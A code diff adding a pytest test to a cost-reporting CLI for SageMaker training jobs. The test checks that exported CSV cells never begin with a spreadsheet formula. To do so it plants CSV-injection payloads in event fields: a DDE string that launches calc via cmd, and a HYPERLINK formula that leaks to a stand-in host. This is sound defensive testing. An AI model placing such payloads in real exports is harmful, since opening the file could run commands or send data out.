@@ -19,7 +19,7 @@ from typer.testing import CliRunner
 
 from tests.aws import create_jobs_table
 from tests.fakes.metrics import FakeMetrics
-from tests.integration.test_cost_once import ARN, CONFIG, attempt_stream, training_event
+from tests.integration.test_cost_once import ARN, CONFIG, attempt_stream, link_to_batch_job, training_event
 
 TABLE = "shareplane-jobs"
 ALICE = "arn:aws:iam::111122223333:role/prodexp1-ml-engineers"
@@ -135,3 +135,45 @@ def test_budgets_show_each_teams_month_against_its_budget(seeded: None, tmp_path
     assert (rows["ProdExp2"]["over"], rows["ProdExp2"]["used"]) == (False, pytest.approx(0.1508, abs=1e-4))
     bad = runner.invoke(app, ["budgets", "--table", TABLE, "--config", str(path), "--month", "March"])
     assert bad.exit_code == 2 and "YYYY-MM" in bad.output
+
+
+#: What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_csv_cell_the_cli_writes_starts_a_formula(aws_credentials: None, tmp_path: Any) -> None:
+    # GIVEN training jobs whose SageMaker events carry formulas where a team, a tier and an instance
+    # type go (event fields are whatever the training job was created with, never ours to trust)
+    import yaml
+
+    from tests.conftest import REPO
+
+    with mock_aws():
+        client = boto3.client("dynamodb", region_name="us-east-1")
+        create_jobs_table(client, TABLE)
+        store = DynamoJobStore(client, TABLE)
+        link_to_batch_job(store, JOB, "ProdExp1", 10, [ARN + "f1", ARN + "f2"])
+        for name, instance_type in (("f1", "@SUM(1+1)*cmd|' /C calc'!A0"), ("f2", "-2+3")):
+            for raw in attempt_stream(name, "Completed", 600):
+                raw["detail"]["ResourceConfig"]["InstanceType"] = instance_type
+                raw["detail"]["Tags"] = {TEAM_TAG: '=HYPERLINK("http://x.example/?leak")', TIER_TAG: "+1"}
+                record_observation(parse_state_event(raw), store, FakeMetrics(), CONFIG)
+        data = yaml.safe_load((REPO / "config" / "shares.yaml").read_text())
+        data["budgets"] = {"ProdExp1": {"monthly_usd": 100}}
+        path = tmp_path / "shares.yaml"
+        path.write_text(yaml.safe_dump(data))
+        # WHEN every CSV the CLI writes is asked for
+        outputs = {
+            f"usage --by {by}": runner.invoke(app, ["usage", "--table", TABLE, "--by", by, "-o", "csv"])
+            for by in ("team", "tier", "instance-type", "user", "day")
+        }
+        outputs["budgets"] = runner.invoke(
+            app, ["budgets", "--table", TABLE, "--config", str(path), "-o", "csv"]
+        )
+    # THEN no cell starts with what a spreadsheet takes for a formula
+    cells: set[tuple[str, str]] = set()
+    for name, result in outputs.items():
+        assert result.exit_code == 0, result.output
+        for row in csv.reader(io.StringIO(result.stdout)):
+            cells |= {(name, cell) for cell in row if cell.startswith(FORMULA_STARTS)}
+    assert not cells, f"formula cells: {sorted(cells)}"
